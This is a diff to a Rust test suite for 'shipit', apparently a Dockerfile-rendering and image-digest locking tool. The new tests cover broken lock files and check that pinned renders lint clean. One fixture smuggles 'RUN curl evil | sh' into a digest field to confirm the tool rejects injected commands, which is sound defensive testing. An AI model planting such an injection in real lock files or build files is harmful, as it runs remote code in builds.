@@ -484,6 +484,22 @@ fn update_moves_pins_and_a_plain_lock_keeps_them() {
     );
     let images = lock_file(&dir)["images"].as_table().unwrap().clone();
     assert_eq!(images.keys().collect::<Vec<_>>(), [&builder]);
+
+    // A broken lock stops a plain lock, but `--update` writes it anew.
+    std::fs::write(dir.join("shipit.lock"), "version = 1\nimages = 3\n").unwrap();
+    let output = shipit(
+        &dir,
+        &["lock", "--insecure-registry", &registry.host],
+        &config,
+    );
+    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
+    let output = lock(&["--update"]);
+    assert!(
+        stderr(&output).contains("writing it anew"),
+        "{}",
+        stderr(&output)
+    );
+    assert!(lock_file(&dir)["images"].get(&builder).is_some());
 }
 
 #[test]
@@ -766,14 +782,17 @@ fn a_lock_that_is_not_one_is_an_error_naming_it() {
         "version = 1\n[images.\"golang:1.25\"]\nname = \"x\"\ndigest = \"sha256:1234\\nRUN curl evil | sh\"\nmedia-type = \"x\"\n",
     )
     .unwrap();
-    let output = shipit(dir, &["render"], &dir.join("docker"));
-    assert_eq!(output.status.code(), Some(2));
-    assert!(
-        stderr(&output).contains("the digest of `golang:1.25`"),
-        "{}",
-        stderr(&output)
-    );
-    assert!(stdout(&output).is_empty());
+    for command in [&["render"][..], &["check"], &["lock"]] {
+        let output = shipit(dir, command, &dir.join("docker"));
+        assert_eq!(output.status.code(), Some(2), "{command:?}");
+        assert!(
+            stderr(&output).contains("the digest of `golang:1.25`")
+                && stderr(&output).contains("run `shipit lock --update`"),
+            "{command:?}: {}",
+            stderr(&output)
+        );
+        assert!(stdout(&output).is_empty());
+    }
 }
 
 /// Render and check run in a network namespace with no interface up; lock
@@ -1090,4 +1109,85 @@ fn anonymous_bearer_token_flow_as_on_docker_hub() {
         "{}",
         stderr(&output)
     );
+}
+
+/// A pinned render of every example parses with BuildKit's parser, with
+/// each FROM carrying its digest and the final stage the base labels, and
+/// is clean for hadolint.
+#[test]
+fn pinned_renders_parse_and_lint_clean() {
+    let hadolint = common::tool("SHIPIT_HADOLINT", "bin/hadolint", "hadolint");
+    let (mut texts, mut dirs) = (Vec::new(), Vec::new());
+    for manifest in common::example_manifests() {
+        let work = tempfile::tempdir().unwrap();
+        let source = manifest.parent().unwrap();
+        run(Command::new("cp")
+            .arg("-a")
+            .arg(format!("{}/.", source.display()))
+            .arg(work.path()));
+        let dir = work.path();
+        // Pin whatever the example uses, with made-up digests.
+        let unpinned = shipit(dir, &["render"], &dir.join("docker"));
+        assert_eq!(unpinned.status.code(), Some(0), "{}", stderr(&unpinned));
+        let mut uses: Vec<String> = stdout(&unpinned)
+            .lines()
+            .filter_map(|l| l.strip_prefix("FROM "))
+            .map(|l| {
+                l.split_whitespace()
+                    .find(|w| !w.starts_with("--"))
+                    .unwrap()
+                    .to_string()
+            })
+            .filter(|image| image != "scratch")
+            .collect();
+        uses.sort();
+        uses.dedup();
+        let pins: Vec<(&str, &str)> = uses.iter().map(|u| (u.as_str(), DIGEST_A)).collect();
+        write_lock(dir, &pins);
+        let output = shipit(dir, &["render", "-o", "Dockerfile"], &dir.join("docker"));
+        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+        assert!(!stderr(&output).contains("warning"), "{}", stderr(&output));
+        let text = std::fs::read_to_string(dir.join("Dockerfile")).unwrap();
+        let check = shipit(dir, &["check"], &dir.join("docker"));
+        assert_eq!(check.status.code(), Some(0), "{}", stderr(&check));
+        texts.push(text);
+        dirs.push(work);
+    }
+    let lint = Command::new(&hadolint)
+        .args(["--no-color", "--failure-threshold", "warning"])
+        .args(["--ignore", "DL3008", "--ignore", "DL3018"])
+        .args(dirs.iter().map(|d| d.path().join("Dockerfile")))
+        .output()
+        .unwrap_or_else(|e| panic!("cannot run `{hadolint}` (run scripts/test.sh): {e}"));
+    assert!(lint.status.success(), "hadolint:\n{}", stdout(&lint));
+    for (text, parsed) in texts.iter().zip(common::parse_dockerfiles(&texts)) {
+        let instructions = parsed.unwrap_or_else(|e| panic!("{e}:\n{text}"));
+        let froms: Vec<&common::Instruction> =
+            instructions.iter().filter(|i| i.cmd == "FROM").collect();
+        for from in &froms {
+            let image = from.value[0].as_str();
+            assert!(
+                image == "scratch" || image.ends_with(&format!("@{DIGEST_A}")),
+                "unpinned `{image}`:\n{text}"
+            );
+        }
+        let last = froms.last().unwrap();
+        let final_stage = &instructions[instructions
+            .iter()
+            .position(|i| std::ptr::eq(i, *last))
+            .unwrap()..];
+        let labels: Vec<&String> = final_stage
+            .iter()
+            .filter(|i| i.cmd == "LABEL")
+            .flat_map(|i| &i.value)
+            .collect();
+        let pinned_base = last.value[0] != "scratch";
+        assert_eq!(
+            labels
+                .iter()
+                .any(|v| v.as_str() == "org.opencontainers.image.base.digest"),
+            pinned_base,
+            "base labels {labels:?}:\n{text}"
+        );
+    }
 }
